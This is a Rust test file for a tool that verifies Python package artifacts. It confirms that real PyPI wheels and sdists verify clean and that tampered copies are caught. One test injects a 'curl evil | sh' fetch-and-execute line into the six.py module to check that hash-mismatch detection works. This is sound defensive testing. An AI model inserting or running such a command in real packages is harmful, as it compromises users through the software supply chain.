//! Real artifacts: what PyPI serves and what `python -m build` writes must verify
//! clean; the same artifacts tampered with must not.

use custody_dist::ArtifactKind;
use custody_test_support::{
    pypi_artifact, pypi_artifact_names, rewrite_tar_gz, rewrite_zip, sample_sdist, sample_wheel,
};

use crate::{assert_clean, assert_error, assert_warning, check};

#[test]
fn every_pypi_artifact_verifies_clean() {
    let names = pypi_artifact_names();
    assert!(names.len() >= 10, "{names:?}");
    for name in names {
        let inspection = check(&pypi_artifact(&name));
        assert_clean(&inspection);
        let expected = if name.ends_with(".whl") {
            ArtifactKind::Wheel
        } else {
            ArtifactKind::Sdist
        };
        assert_eq!(inspection.kind, expected, "{name}");
        assert!(inspection.project.is_some(), "{name}");
        assert!(inspection.entries.unwrap() > 0, "{name}");
    }
}

#[test]
fn pypi_artifacts_cover_metadata_versions_and_platforms() {
    let versions: std::collections::BTreeSet<String> = pypi_artifact_names()
        .iter()
        .filter_map(|name| check(&pypi_artifact(name)).metadata_version)
        .collect();
    for version in ["1.1", "1.2", "2.1", "2.3", "2.4"] {
        assert!(
            versions.contains(version),
            "no fixture with Metadata-Version {version}: {versions:?}"
        );
    }
    let bcrypt = check(&pypi_artifact(
        "bcrypt-4.2.0-cp39-abi3-manylinux_2_28_x86_64.whl",
    ));
    assert_eq!(bcrypt.wheel.unwrap().abi, vec!["abi3"]);
    let win32 = check(&pypi_artifact("MarkupSafe-2.1.5-cp311-cp311-win32.whl"));
    assert_eq!(win32.wheel.unwrap().platform, vec!["win32"]);
    let manylinux = check(&pypi_artifact(
        "MarkupSafe-2.1.5-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
    ));
    assert_eq!(manylinux.wheel.unwrap().platform.len(), 2);
    let legacy = check(&pypi_artifact("jaraco.functools-4.1.0-py3-none-any.whl"));
    assert_eq!(legacy.project.unwrap().normalized_name, "jaraco-functools");
}

#[test]
fn maturin_wheels_with_a_compressed_tag_line_verify_with_a_warning() {
    for name in [
        "jiter-0.8.2-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
        "rpds_py-0.22.3-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
    ] {
        let inspection = check(&pypi_artifact(name));
        assert_clean(&inspection);
        let message = assert_warning(&inspection, "wheel-tags-compressed");
        assert!(
            message.contains("`cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64`"),
            "{message}"
        );
    }
}

#[test]
fn built_sample_artifacts_verify_clean() {
    let wheel = check(&sample_wheel());
    assert_clean(&wheel);
    assert_eq!(wheel.metadata_version.as_deref(), Some("2.4"));
    assert_eq!(wheel.project.as_ref().unwrap().name, "custody-sample");
    let sdist = check(&sample_sdist());
    assert_clean(&sdist);
    assert_eq!(sdist.kind, ArtifactKind::Sdist);
    assert_eq!(sdist.project.unwrap().version, "0.18.3");
}

#[test]
fn tampered_real_wheel_is_caught() {
    let dir = tempfile::tempdir().unwrap();
    let tampered = dir.path().join("six-1.16.0-py2.py3-none-any.whl");
    rewrite_zip(
        &pypi_artifact("six-1.16.0-py2.py3-none-any.whl"),
        &tampered,
        |name, mut data| {
            if name == "six.py" {
                data.extend_from_slice(b"\nimport os; os.system('curl evil | sh')\n");
            }
            Some(data)
        },
    );
    let message = assert_error(&check(&tampered), "record-hash-mismatch");
    assert!(message.starts_with("`six.py` has sha256="), "{message}");
}

#[test]
fn real_wheel_with_an_added_file_is_caught() {
    let dir = tempfile::tempdir().unwrap();
    let source = sample_wheel();
    let tampered = dir.path().join(source.file_name().unwrap());
    let mut added = false;
    rewrite_zip(&source, &tampered, |_, data| Some(data));
    // Append a file RECORD does not know, with the zip tool of the test Python.
    let status = std::process::Command::new(custody_test_support::python())
        .args(["-c", "import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'a') as z: z.writestr('custody_sample/_patch.py', 'x = 1\\n')"])
        .arg(&tampered)
        .status()
        .unwrap();
    added |= status.success();
    assert!(added);
    let message = assert_error(&check(&tampered), "record-unlisted");
    assert!(message.contains("`custody_sample/_patch.py`"), "{message}");
}

#[test]
fn tampered_real_sdist_is_caught() {
    let dir = tempfile::tempdir().unwrap();
    let tampered = dir.path().join("six-1.16.0.tar.gz");
    rewrite_tar_gz(
        &pypi_artifact("six-1.16.0.tar.gz"),
        &tampered,
        |name, data| {
            if name == "six-1.16.0/PKG-INFO" {
                Some(
                    String::from_utf8(data)
                        .unwrap()
                        .replace("Version: 1.16.0", "Version: 1.16.1")
                        .into_bytes(),
                )
            } else {
                Some(data)
            }
        },
    );
    let message = assert_error(&check(&tampered), "metadata-version-mismatch");
    assert!(message.contains("`Version: 1.16.1`"), "{message}");
}
